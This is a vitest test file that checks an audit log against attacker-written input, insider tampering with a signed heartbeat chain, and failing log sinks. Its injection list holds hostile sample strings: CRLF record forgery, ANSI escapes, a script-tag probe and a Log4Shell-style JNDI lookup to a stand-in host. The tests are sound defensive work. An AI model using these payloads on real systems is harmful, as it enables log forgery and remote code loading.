/** Attacks on the audit trail: what is written into it, taken out of it, and what happens when it cannot be written. */
import { mkdtempSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, expect, test, vi } from "vitest";
import type { AuditRecord } from "../../src/server/audit/audit-record.js";
import { jsonLinesAudit } from "../../src/server/audit/json-lines.js";
import { queued } from "../../src/server/audit/sinks/queue.js";
import { StoreUnavailableError } from "../../src/server/platform/errors.js";
import { createTestKey, TestBrowser } from "../server/support/test-browser.js";
import { createTestVerifier, MINUTE, SILENT } from "../server/support/test-verifier.js";
import { firstBreak } from "./support/heartbeat-chain.js";
import { atEnd } from "./support/nodes.js";

/** What breaks lines, colours terminals, ends strings or looks like a record. */
const INJECTIONS = [
  'ann\r\n{"v":1,"type":"session_created"}',
  'ann"},{"type":"forged',
  "\u001b[31mred\u001b[0m",
  "\u009b31mred",
  "line\u2028separator\u2029paragraph\u0085next",
  "\u0000\u0007\u007f",
  "$" + "{jndi:ldap://evil.test/a}",
  "<script>alert(1)</script>",
  "A".repeat(5_000),
];

describe("70: what an attacker can write into the log", () => {
  test("70: stays inside one valid object a line, without a control character, a name or a secret", async () => {
    const folder = mkdtempSync(join(tmpdir(), "curfew-"));
    atEnd(() => rmSync(folder, { recursive: true }));
    const path = join(folder, "audit.jsonl");
    const { sessions, clock, audit } = createTestVerifier({ audit: jsonLinesAudit(path) });
    const secrets: string[] = [];
    for (const text of INJECTIONS) {
      const browser = new TestBrowser(sessions, await createTestKey());
      await browser.signIn(text, { roles: [text], attributes: { scope: text, [text]: text } });
      await browser.bind();
      clock.advance(MINUTE);
      await browser.beat(clock.now());
      await proveOnPath(browser, sessions, text);
      await browser.post("/curfew/heartbeat", { heartbeat: text }, { "user-agent": "Mozilla/5.0 evil" });
      await sessions.update(browser.request("/"), { roles: [text], attributes: { name: text } });
      secrets.push(browser.cookie?.split("=")[1] ?? "", (await browser.ask()).body.nonce as string);
    }
    await sessions.close();
    const raw = readFileSync(path, "utf8");
    const lines = raw.trimEnd().split("\n");
    expect(lines.slice(1).map((line) => JSON.parse(line) as AuditRecord)).toEqual(audit);
    expect(audit.filter(({ type }) => type === "session_created")).toHaveLength(INJECTIONS.length);
    expect(audit.filter(({ type }) => type === "proof_refused")).toHaveLength(INJECTIONS.length);
    expect(raw.replaceAll("\n", "").match(/[\p{Cc}\p{Zl}\p{Zp}]/gu)).toBeNull();
    for (const secret of secrets) {
      expect(secret).toHaveLength(43);
      expect(raw).not.toContain(secret);
    }
    for (const { subject } of audit) expect(subject).toMatch(/^[A-Za-z0-9_-]{43}$/);
    expect(raw).not.toContain("Mozilla");
    expect(raw).not.toMatch(/"roles"|"attributes"|jndi.*"type":"session_created"/);
  });
});

/** A path as a server that decodes it hands it on, so that the record is given the raw text. */
async function proveOnPath(
  browser: TestBrowser,
  sessions: ReturnType<typeof createTestVerifier>["sessions"],
  text: string,
) {
  const message = {
    method: "POST",
    httpVersionMajor: 1,
    url: `/pay/${text}?token=${text}`,
    headers: { cookie: browser.cookie ?? "", "curfew-proof": "not.a.proof" },
    socket: { remoteAddress: "203.0.113.7" },
  };
  const result = await sessions.check(message as never, { proof: true });
  expect(result.status).toBe("refused");
}

describe("71: an insider with the log", () => {
  async function trail() {
    const { sessions, clock, audit } = createTestVerifier();
    const browser = await TestBrowser.signedIn(sessions);
    for (let at = 0; at < 6; at++) {
      clock.advance(MINUTE);
      await browser.beat(clock.now());
    }
    await sessions.end(browser.live.sid);
    const records: readonly AuditRecord[] = [...audit];
    return { records, jwk: browser.key.jwk };
  }
  const beatsIn = (records: readonly AuditRecord[]) =>
    records.flatMap(({ type }, at) => (type === "session_renewed" ? [at] : []));

  test("71: is found out where a heartbeat was changed, taken out of the middle, moved, or made up", async () => {
    const { records, jwk } = await trail();
    expect(firstBreak(records, jwk)).toBeNull();
    const [first = 0, second = 0, third = 0] = beatsIn(records).slice(1);
    const at = (index: number): AuditRecord => {
      const record = records[index];
      if (record === undefined) throw new Error("the trail is too short");
      return record;
    };
    const changed = records.with(second, {
      ...at(second),
      heartbeat: reclaimed(at(second).heartbeat ?? ""),
    });
    const cut = records.toSpliced(second, 1);
    const moved = records.with(second, at(third)).with(third, at(second));
    const repeated = records.toSpliced(second, 0, at(first));
    const otherRandom = records.with(second, { ...at(second), random: at(first).random ?? "" });
    for (const [name, mutated] of Object.entries({ changed, cut, moved, repeated, otherRandom }))
      expect(firstBreak(mutated, jwk), name).not.toBeNull();
  });

  test("71: is not found out by the chain where the last heartbeats, or records of other kinds, were taken away", async () => {
    const { records, jwk } = await trail();
    const beats = beatsIn(records);
    // What the threat model says does not hold yet: nothing outside the log knows where it ended.
    expect(firstBreak(records.slice(0, beats.at(-2)), jwk)).toBeNull();
    expect(
      firstBreak(
        records.filter(({ type }) => type !== "session_revoked"),
        jwk,
      ),
    ).toBeNull();
  });
});

function reclaimed(jws: string): string {
  const [header, payload = "", signature] = jws.split(".");
  const claims = JSON.parse(Buffer.from(payload, "base64url").toString()) as { activeAt: number };
  const later = Buffer.from(JSON.stringify({ ...claims, activeAt: claims.activeAt + 1 })).toString(
    "base64url",
  );
  return `${header}.${later}.${signature}`;
}

describe("72: a sink that is slow, full or broken", () => {
  test.each<[string, () => Promise<void> | void]>([
    ["never answers", () => new Promise(() => {})],
    ["rejects", () => Promise.reject(new Error("no space left on device"))],
    [
      "throws",
      () => {
        throw new Error("no space left on device");
      },
    ],
  ])("72: one that %s stops no request, no end and no other sink", async (how, write) => {
    const errors: string[] = [];
    const others: AuditRecord[] = [];
    const { sessions, clock } = createTestVerifier({
      audit: [{ write }, { write: (record) => void others.push(record) }],
      logger: { ...SILENT, error: (line) => errors.push(line) },
    });
    const browser = await TestBrowser.signedIn(sessions);
    clock.advance(MINUTE);
    expect((await browser.beat(clock.now())).status).toBe(200);
    await sessions.end(browser.live.sid);
    expect((await browser.ask()).body.reason).toBe("revoked");
    expect(others.map(({ type }) => type)).toEqual([
      "policy_in_force",
      "session_created",
      "key_bound",
      "session_renewed",
      "session_revoked",
    ]);
    const told = how === "never answers" ? 0 : others.length;
    expect(errors).toEqual(Array(told).fill("curfew: an audit sink failed: no space left on device"));
  });
});

describe("72: a sink that hangs", () => {
  test("72: has no more waiting than was said, and where nothing may be lost every call is a 503 until it has taken them", async () => {
    const away = { is: true };
    const taken: AuditRecord[] = [];
    const target = {
      name: "the receiver",
      batch: 500,
      async send(records: readonly AuditRecord[]) {
        if (away.is) throw new Error("away");
        taken.push(...records);
      },
    };
    const sink = queued(target, { capacity: 20, whenLost: "refuse" });
    const { sessions } = createTestVerifier({ audit: sink });
    atEnd(() => sessions.close());
    const browser = new TestBrowser(sessions, await createTestKey());
    await browser.signIn("ann");
    const started = async () => {
      try {
        await sessions.start(browser.request("/"), { subject: "bob" });
        return "started";
      } catch (error) {
        return error instanceof StoreUnavailableError ? "unavailable" : error;
      }
    };
    let calls = 0;
    while (sink.isRefusing?.() !== true && calls < 40) {
      await started();
      calls++;
    }
    expect(calls).toBeLessThan(20);
    expect(await started()).toBe("unavailable");
    expect((await browser.ask()).status).toBe(503);
    away.is = false;
    await vi.waitFor(() => expect(sink.isRefusing?.()).toBe(false), { timeout: 30_000 });
    expect(await started()).toBe("started");
    expect((await browser.ask()).status).not.toBe(503);
    await sink.flush();
    expect(taken.filter(({ type }) => type === "audit_gap")).toEqual([]);
  });
});
